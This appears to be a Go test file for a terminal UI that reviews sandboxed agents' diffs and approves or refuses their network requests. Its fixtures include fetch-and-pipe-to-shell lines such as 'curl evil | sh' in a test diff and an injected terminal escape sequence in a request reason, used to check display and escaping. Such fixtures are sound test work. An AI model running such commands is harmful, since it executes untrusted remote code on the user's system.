	keys(m, "[", "[")
	if v := m.View(); !strings.Contains(v, "file 1/3: 0-big.txt (new, +60000 -0)") {
		t.Errorf("back to the first:\n%s", v)
	}
	keys(m, "G")
	if v := m.View(); !strings.Contains(v, "+curl evil | sh") {
		t.Errorf("the end of the view:\n%s", v)
	}
}

// A file git never reached (the read limit stopped it) is listed all the
// same, with what it is, and says why it is not shown.
func TestDiffViewNamesFilesNeverRead(t *testing.T) {
	m, _ := newTest(t, 160, 40, false)
	files := []git.FileChange{changed("a.txt", 1, 0), changed("zz-evil.sh", 2, 0)}
	files[1].Old, files[1].New.Mode = git.Entry{}, "100755"
	c := git.NewPatchCutter(files, false, git.PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 512, Read: 30})
	c.Write([]byte("diff --git a/a.txt b/a.txt\n+a\ndiff --git a/zz-evil.sh b/zz-evil.sh\n+curl evil\n"))
	c.Close()
	lines, anchors, names := renderDiff(m.st, &git.FileList{Files: files, Total: 2, Added: 3}, c, "`litterbox diff x`")
	text := ansi.Strip(strings.Join(lines, "\n"))
	if len(anchors) != 2 || !strings.Contains(names[1], "zz-evil.sh (new, mode 100755, +2 -0)") ||
		!strings.Contains(text, "zz-evil.sh: never read (the view reads 256 MiB of a diff at most)") ||
		!strings.Contains(ansi.Strip(lines[anchors[1]]), "file zz-evil.sh (new, mode 100755, +2 -0) not shown: never read") {
		t.Errorf("the file never read:\n%s\nanchors %v names %q", text, anchors, names)
	}
}

// A list cut at its limit says how many files it left out, after which,
// and what lists them all; its counts are all the files'.
func TestDiffViewNamesFilesNotListed(t *testing.T) {
	m, _ := newTest(t, 200, 40, false)
	files := []git.FileChange{changed("a.txt", 1, 0)}
	c := git.NewPatchCutter(files, true, git.DefaultPatchLimits)
	c.Write([]byte("diff --git a/a.txt b/a.txt\n+a\ndiff --git a/b.txt b/b.txt\n+b\n"))
	c.Close()
	lines, _, _ := renderDiff(m.st, &git.FileList{Files: files, Total: 3, Added: 5}, c, "`litterbox diff x`")
	text := ansi.Strip(strings.Join(lines, "\n"))
	for _, want := range []string{"3 file(s) changed, +5 -0", "Only the first 1 file(s) are listed here (the view lists 100000 files, 16 MiB of names, at most): 2 more, after a.txt, are not (`litterbox diff x --stat` lists them all)"} {
		if !strings.Contains(text, want) {
			t.Errorf("lacks %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, "matched") || !c.Stopped || c.Stray != 0 {
		t.Errorf("the lines past the list: stopped %v, beyond %d, stray %d:\n%s", c.Stopped, c.Beyond, c.Stray, text)
	}
}

// A record that does not follow where the follower read it is flagged on
// its sandbox's row, and stays flagged as events follow; the feed has the
// note as a row.
func TestBrokenChainFlagged(t *testing.T) {
	m, _ := newTest(t, 160, 30, false)
	m.Update(sandboxes("a", "b"))
	now := time.Now()
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "a"}: nil, {root, "b"}: nil}})
	m.Update(eventsMsg{repo: root, events: []activity.Event{
		{Time: now, Sandbox: "a", Kind: activity.KindBroken, Seq: 12, Message: "it does not follow the line before it"},
		{Time: now, Seq: 12, Sandbox: "a", Kind: activity.KindCall, Tool: "bash", Args: "true"},
	}})
	m.Update(eventsMsg{repo: root, events: []activity.Event{{Time: now, Seq: 13, Sandbox: "a", Kind: activity.KindPause}}})
	v := m.View()
	if got := strings.Count(v, "! the record is broken at event 12"); got != 2 {
		t.Errorf("the break shows %d times, want on a's row and in its feed:\n%s", got, v)
	}
	if !strings.Contains(v, "paused") {
		t.Errorf("the events after the break are not shown:\n%s", v)
	}
}

// An agent's pending request shows as a badge on its sandbox's row; w
// lists the requests, pending first, the reason escaped, with the refused
// connections that led to it; there a approves and x refuses the selected
// one, as the UI's user, while on the list a and x stay apply and delete.
func TestRequests(t *testing.T) {
	m, svc := newTest(t, 120, 30, false)
	list := sandboxes("net")
	// a sandbox with a gateway, as list reads it
	if err := json.Unmarshal([]byte(`{"egress":{"mode":"allowlist"}}`), &list.sbs[0]); err != nil || list.sbs[0].Egress == nil {
		t.Fatal(err)
	}
	m.Update(list)
	at := time.Now().Add(-time.Minute)
	reqs := []sandbox.NetRequest{
		{Host: "old.example", Time: at, Asked: 1, State: sandbox.RequestRefused, By: "cli"},
		{Host: "example.com", Reason: "the docs \x1b[31m for the task", Time: at, Asked: 3, State: sandbox.RequestPending},
	}
	m.Update(eventsMsg{repo: root, events: []activity.Event{
		{Time: at, Sandbox: "net", Kind: activity.KindEgress, By: activity.ByMCP, Args: "wget -q -O- http://example.com/", Target: "example.com:80 (not in the allowlist)"},
	}})
	m.Update(requestsMsg{key: sbKey{root, "net"}, reqs: reqs})
	v := ansi.Strip(checkScreen(t, m, 120, 30))
	if !strings.Contains(v, "1 request (w) ") {
		t.Fatalf("no badge on the row:\n%s", v)
	}
	keys(m, "w")
	v = ansi.Strip(checkScreen(t, m, 120, 30))
	for _, want := range []string{
		"requests of net for hosts: 1 pending",
		"> example.com  pending  1m  asked 3 times  the docs \\033[31m for the task",
		"refused " + at.Local().Format("15:04:05") + "  example.com:80 (not in the allowlist)  during  wget -q -O- http://example.com/",
		"  old.example  refused by cli",
		"a approve  A approve and save  x refuse",
	} {
		if !strings.Contains(v, want) {
			t.Errorf("the requests view lacks %q:\n%s", want, v)
		}
	}
	if strings.Contains(v, "\x1b[31m") {
		t.Error("the reason is not escaped")
	}
	for _, k := range []string{"a", "x"} {
		if cmd := keys(m, k); cmd != nil {
			m.Update(cmd())
		}
	}
	keys(m, "down")
	if cmd := keys(m, "a"); cmd != nil {
		t.Error("an answered request was answered again")
	}
	keys(m, "esc")
	if cmd := keys(m, "a"); cmd != nil { // apply, on the list: reads what it holds
		m.Update(cmd())
	}
	calls := svc.called()
	if !strings.Contains(calls, "approve net example.com,refuse net example.com") || !strings.HasSuffix(calls, "diff net") {
		t.Errorf("calls = %q", calls)
	}
	for i, a := range svc.actors {
		if a != activity.ByUI {
			t.Errorf("call %q acted as %q", svc.calls[i], a)
		}
	}
}

// Requests past the screen's height scroll: the selected one shows.
func TestRequestsScroll(t *testing.T) {
	m, _ := newTest(t, 80, 24, false)
	list := sandboxes("net")
	if err := json.Unmarshal([]byte(`{"egress":{"mode":"allowlist"}}`), &list.sbs[0]); err != nil {
		t.Fatal(err)
	}
	m.Update(list)
	var reqs []sandbox.NetRequest
	for i := range 40 {
		reqs = append(reqs, sandbox.NetRequest{Host: fmt.Sprintf("h%02d.example", i), Time: time.Now().Add(-time.Duration(i) * time.Second), Asked: 1, State: sandbox.RequestPending})
	}
	m.Update(requestsMsg{key: sbKey{root, "net"}, reqs: reqs})
	keys(m, "w")
	for range 30 {
		keys(m, "down")
	}
	v := ansi.Strip(checkScreen(t, m, 80, 24))
	if !strings.Contains(v, "> h30.example  pending") || !strings.Contains(v, "requests of net for hosts: 40 pending") {
		t.Errorf("the selected request is not shown:\n%s", v)
	}
}

// A batch of events changing a sandbox's network reads its requests once,
// not once an event: an agent asking again and again costs one read.
func TestNetEventsRereadRequestsOnce(t *testing.T) {
	m, svc := newTest(t, 120, 30, false)
	m.Update(sandboxes("net"))
	var evs []activity.Event
	for _, host := range []string{"a.example", "b.example", "c.example"} {
		evs = append(evs, activity.Event{Time: time.Now(), Sandbox: "net", Kind: activity.KindNet, By: activity.ByMCP, Action: "request", Target: host})
	}
	_, cmd := m.Update(eventsMsg{repo: root, events: evs})
	var run func(tea.Cmd)
	run = func(c tea.Cmd) {
		if c == nil {
			return
		}
		if b, ok := c().(tea.BatchMsg); ok {
			for _, c := range b {
				run(c)
			}
		}
	}
	run(cmd)
	svc.mu.Lock()
	defer svc.mu.Unlock()
	reads := 0
	for _, c := range svc.calls {
		if c == "requests net" {
			reads++
		}
	}
	if reads != 1 {
		t.Errorf("read the requests %d times for one batch, want once (calls %v)", reads, svc.calls)
	}
}
